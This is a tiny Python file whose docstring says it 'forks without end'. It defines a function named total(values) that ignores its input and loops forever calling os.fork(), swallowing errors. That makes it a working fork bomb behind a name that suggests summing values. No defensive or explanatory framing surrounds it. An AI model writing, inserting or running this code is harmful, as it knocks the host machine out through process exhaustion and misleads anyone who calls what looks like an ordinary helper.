"""Forks without end."""

import os


def total(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
